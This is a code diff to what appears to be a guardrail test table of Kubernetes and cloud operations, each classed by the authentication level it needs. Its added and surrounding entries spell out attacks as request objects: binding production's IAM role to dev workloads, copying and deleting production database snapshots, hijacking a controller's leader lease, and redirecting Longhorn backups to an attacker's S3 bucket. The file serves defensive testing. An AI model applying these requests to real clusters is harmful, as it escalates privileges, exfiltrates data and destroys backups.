@@ -103,6 +103,11 @@ const PLURAL: Record<string, string> = {
   RoleAssignment: 'roleassignments',
   FederatedIdentityCredential: 'federatedidentitycredentials',
   RolePolicyAttachment: 'rolepolicyattachments',
+  ServiceAccount: 'serviceaccounts',
+  Pod: 'pods',
+  VolumeSnapshot: 'volumesnapshots',
+  VolumeSnapshotContent: 'volumesnapshotcontents',
+  Lease: 'leases',
 };
 
 const { base, named, applied, patched, replaced, serverSide, jsonPatched, strategic, deleted } = kubectlWrites(PLURAL);
@@ -284,6 +289,9 @@ const cloud: Entry[] = [
   { op: 'Azure Service Operator', what: "a FederatedIdentityCredential in dev letting an outside issuer's tokens act as production's managed identity", req: applied({ apiVersion: 'managedidentity.azure.com/v1api20230131', kind: 'FederatedIdentityCredential', metadata: { name: 'ci', namespace: 'dev' }, spec: { owner: { name: 'payments-prod-identity' }, audiences: ['api://AzureADTokenExchange'], issuer: 'https://token.actions.githubusercontent.com', subject: 'repo:attacker/any:ref:refs/heads/main' } }), need: 'aal3', by: CLOUD },
   { op: 'Crossplane v2', what: 'a namespaced RolePolicyAttachment in dev attaching AdministratorAccess', req: applied({ apiVersion: 'iam.aws.m.upbound.io/v1beta1', kind: 'RolePolicyAttachment', metadata: { name: 'admin', namespace: 'dev' }, spec: { forProvider: { role: 'dev-runner', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, providerConfigRef: { kind: 'ClusterProviderConfig', name: 'default' } } }), need: 'aal3', by: CLOUD },
   { op: 'Crossplane v2', what: 'a namespaced S3 Bucket in dev', req: applied({ apiVersion: 's3.aws.m.upbound.io/v1beta1', kind: 'Bucket', metadata: { name: 'dev-scratch', namespace: 'dev' }, spec: { forProvider: { region: 'eu-west-1' }, providerConfigRef: { kind: 'ProviderConfig', name: 'dev' } } }), need: 'routine' },
+  // The cloud identity by the ServiceAccount's annotation (IRSA), or by the pod's own projected token (day 26).
+  { op: 'EKS', what: "a dev ServiceAccount annotated with production's IAM role (IRSA)", req: strategic({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'web', namespace: 'dev' } }, { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::441177203958:role/payments-prod' } } }), need: 'aal3', by: 'guardrail:cloud_workload_identity' },
+  { op: 'EKS', what: "a dev pod with its own sts.amazonaws.com token and production's role in AWS_ROLE_ARN", req: applied({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'sync', namespace: 'dev' }, spec: { containers: [{ name: 'c', image: 'public.ecr.aws/aws-cli/aws-cli:2.22.10', env: [{ name: 'AWS_ROLE_ARN', value: 'arn:aws:iam::441177203958:role/payments-prod' }, { name: 'AWS_WEB_IDENTITY_TOKEN_FILE', value: '/t/token' }] }], volumes: [{ name: 't', projected: { sources: [{ serviceAccountToken: { audience: 'sts.amazonaws.com', path: 'token' } }] } }] } }), need: 'aal3', by: 'guardrail:cloud_workload_identity' },
 ];
 
 // --- Crossplane -------------------------------------------------------------------------------
@@ -389,7 +397,14 @@ const prometheus: Entry[] = [
 
 // --- Longhorn and Rook (storage backups) --------------------------------------------------------
 
+const snapshot: Doc = { apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshot', metadata: { name: 'db-pre-maint', namespace: 'payments' }, spec: { volumeSnapshotClassName: 'csi', source: { persistentVolumeClaimName: 'data-db-0' } } };
 const storage: Entry[] = [
+  // A volume copied (day 26): production's database snapshotted, then its snapshot's handle pre-provisioned into dev.
+  { op: 'CSI snapshots', what: "a VolumeSnapshot of production's database volume", req: applied(snapshot), need: 'aal3', by: 'volume-snapshots' },
+  { op: 'CSI snapshots', what: "a VolumeSnapshotContent with another snapshot's handle, bound to a VolumeSnapshot in dev", req: applied({ apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshotContent', metadata: { name: 'dev-restore' }, spec: { deletionPolicy: 'Retain', driver: 'ebs.csi.aws.com', source: { snapshotHandle: 'snap-0a1b2c3d4e5f60718' }, volumeSnapshotRef: { name: 'copy', namespace: 'dev' } } }), need: 'aal3', by: 'volume-snapshots' },
+  { op: 'CSI snapshots', what: "production's database snapshot deleted (its content's deletionPolicy deletes the disk snapshot)", req: deleted(snapshot), need: 'aal3', by: 'volume-snapshots' },
+  // A controller's leader election taken by a holder that does not exist (day 26: the access broker).
+  { op: 'leader election', what: "a controller's Lease replaced with a year-long hold by a holder no replica has", req: replaced({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'access-broker-controller', namespace: 'access-broker' }, spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'leader-election-leases' },
   { op: 'Longhorn', what: "the backup-target Setting pointed at the attacker's S3 (every volume's backups)", req: patched({ apiVersion: 'longhorn.io/v1beta2', kind: 'Setting', metadata: { name: 'backup-target', namespace: 'longhorn-system' } }, { value: 's3://attacker-loot@us-east-1/' }), need: 'aal3', by: 'backup-objects' },
   { op: 'Longhorn', what: "a BackupTarget at the attacker's S3", req: applied({ apiVersion: 'longhorn.io/v1beta2', kind: 'BackupTarget', metadata: { name: 'default', namespace: 'longhorn-system' }, spec: { backupTargetURL: 's3://attacker-loot@us-east-1/', credentialSecret: 'attacker-s3', pollInterval: '300s' } }), need: 'aal3', by: 'backup-objects' },
 ];
